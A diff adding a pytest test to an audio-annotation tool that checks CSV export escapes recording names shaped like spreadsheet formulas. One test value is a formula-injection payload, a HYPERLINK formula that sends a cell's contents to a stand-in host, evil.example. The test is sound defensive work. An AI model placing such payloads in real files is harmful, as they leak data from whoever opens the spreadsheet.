@@ -404,3 +404,20 @@ def test_files_clock_times_and_dates_are_not_taken_for_labels():
                                 "1\t1\t2\t10:00:01.000\t2019/09/20\n2\t3\t4\t10:00:03.000\t2019/09/21\n",
                                 "t.txt", "anemonefish")
     assert files.label_lookalike is None and clocks.label_lookalike is None
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"open").wav', "+1.wav", "-6dB test.wav", "@x.wav"])
+def test_a_recording_named_like_a_formula_is_text_in_the_csv_and_reads_back_whole(
+    result: DetectionResult, name: str
+) -> None:
+    """The CSV put the name raw on every row: a spreadsheet ran "=HYPERLINK(...)" as a formula."""
+    from anemonefish.formats import _parse_annotations
+
+    named = dataclasses.replace(result, audio=dataclasses.replace(result.audio, filename=name))
+    rows = list(csv.DictReader(io.StringIO(render_document(named, "csv"))))
+    assert rows and all(row["file"] == "'" + name for row in rows)
+    # Read back (evaluate pairs a CSV's rows with recordings by this column), it is the name.
+    table = _parse_annotations(render_document(named, "csv"), "t.csv", "anemonefish")
+    assert len(table.of_recordings({name}).events()) == len(rows)
+    plain = list(csv.DictReader(io.StringIO(render_document(result, "csv"))))
+    assert plain[0]["file"] == "reef 01.wav"
